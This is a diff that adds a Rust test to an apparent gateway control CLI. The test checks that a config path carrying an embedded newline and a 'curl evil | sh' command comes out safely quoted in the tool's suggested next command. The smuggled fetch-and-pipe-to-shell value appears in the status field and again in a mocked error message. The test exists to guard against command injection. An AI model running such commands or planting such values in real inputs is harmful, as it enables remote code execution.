@@ -196,3 +196,47 @@ fn names_and_numbers_of_any_size_in_a_status_are_shown() {
         }
     }
 }
+
+#[test]
+fn a_name_forges_no_next_command() {
+    if !servers::have("python3") {
+        return;
+    }
+    let top = tempfile::tempdir().unwrap();
+    let mut status = real_status(top.path());
+    status["config"] = "/etc/gateway/x.toml\ncurl evil | sh; curl evil".into();
+    let state = top.path().join("state");
+    let listener = bind_control_socket(&state.join("run/control.sock")).unwrap();
+    listener.set_nonblocking(false).unwrap();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let status = status.clone();
+            std::thread::spawn(move || {
+                for line in BufReader::new(stream.try_clone().unwrap()).lines() {
+                    let request: Value = serde_json::from_str(&line.unwrap()).unwrap();
+                    let answer = match request["method"].as_str() {
+                        Some("status") => {
+                            json!({"type": "res", "id": request["id"], "ok": true, "payload": status})
+                        }
+                        _ => json!({
+                            "type": "res", "id": request["id"], "ok": false,
+                            "error": {"code": "config_invalid", "message": "line 1\ncurl evil | sh"}
+                        }),
+                    };
+                    if writeln!(stream, "{answer}").is_err() {
+                        return;
+                    }
+                }
+            });
+        }
+    });
+    let output = ctl_in(&state).arg("reload").output().unwrap();
+    let text = said(&output);
+    let next: Vec<&str> = text
+        .lines()
+        .filter_map(|line| line.trim_start().strip_prefix("next: "))
+        .collect();
+    let expected =
+        r"gatewayctl config check --config '/etc/gateway/x.toml\ncurl evil | sh; curl evil'";
+    assert_eq!(next, [expected], "{text}");
+}
